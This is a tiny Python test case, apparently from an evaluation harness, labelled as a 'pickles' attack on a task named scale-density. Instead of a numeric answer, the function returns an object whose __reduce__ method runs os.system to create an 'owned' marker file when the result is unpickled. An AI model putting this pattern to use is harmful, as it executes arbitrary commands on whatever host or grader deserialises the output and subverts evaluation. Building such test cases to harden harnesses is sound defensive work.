# class: pickles
# attack: answers an object that runs code when it is unpickled
# task: 00_mini/scale-density
# form: cell

import os
class Bomb:
    def __reduce__(self): return os.system, ('touch @tmp@/owned',)
def scale_log_density(x, a):
    return Bomb()
